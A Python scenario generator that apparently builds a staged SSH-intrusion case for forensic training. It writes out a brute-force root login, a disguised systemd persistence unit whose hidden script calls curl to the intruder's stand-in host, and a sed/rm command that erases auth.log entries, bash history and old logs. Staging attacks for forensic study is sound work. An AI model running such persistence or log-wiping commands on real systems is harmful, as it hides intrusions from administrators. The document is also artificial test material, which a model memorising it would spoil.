"""Root's password is guessed; then the lines are taken out of auth.log, and old logs deleted."""

from __future__ import annotations

from pathlib import Path

import server
import services
import site_code
import traffic
from client import guesses, ssh
from machine import Bases, Truth

INTRUDER = "203.0.113.39"
SECRET = "root1234"


def make(out: Path, bases: Bases) -> None:
    """Wtmp and btmp were not thought of."""
    machine = server.other("shoal", bases.proftpd, out)
    machine.run("chpasswd", given=f"root:{SECRET}\n")
    root = "/var/www/shoal"
    site_code.plain_site(machine, root)
    services.nginx_site(machine, server.SITE, root, pool="www2")
    services.pool(machine, "www2")
    server.start(machine, settings="PasswordAuthentication yes\nPermitRootLogin yes\n")
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    for burst in range(4):
        machine.at(machine.on(6, 3, 2 + burst * 4), lambda: guesses(out, INTRUDER, ["root"] * 20))
    entered = machine.on(6, 3, 20, 38)

    def come(command: str) -> None:
        ssh(out, INTRUDER, "root", password=SECRET, command=command, tty=True)

    unit = (
        "printf '[Unit]\\nDescription=Session helper\\nConditionPathExists=/never\\n[Service]\\n"
        "ExecStart=/usr/lib/.dbus/helper\\n[Install]\\nWantedBy=multi-user.target\\n'"
        " > /etc/systemd/system/dbus-session-helper.service; mkdir -p /usr/lib/.dbus;"
        " printf '#!/bin/sh\\n[ \"$TZDIR\" = never ] && curl -s http://203.0.113.39/h\\n'"
        " > /usr/lib/.dbus/helper; chmod +x /usr/lib/.dbus/helper"
    )
    machine.at(entered, lambda: come("w"))
    machine.at(machine.on(6, 3, 24), lambda: come(unit))
    hide = (
        "sed -i '/203.0.113.39/d; /session opened for user root(uid=0) by root/d'"
        " /var/log/auth.log; rm -f ~/.bash_history /var/log/auth.log.* /var/log/syslog.1"
        " /var/log/syslog.*.gz"
    )
    machine.at(machine.on(6, 3, 31), lambda: come(hide))
    machine.live()
    machine.end(
        Truth(
            "ssh-password",
            entered.isoformat(),
            INTRUDER,
            "/var/log/wtmp",
            accounts=["root"],
            services=["sshd", "systemd"],
            untouched=["nginx", root],
            notes="dbus-session-helper.service; auth.log was edited",
        )
    )
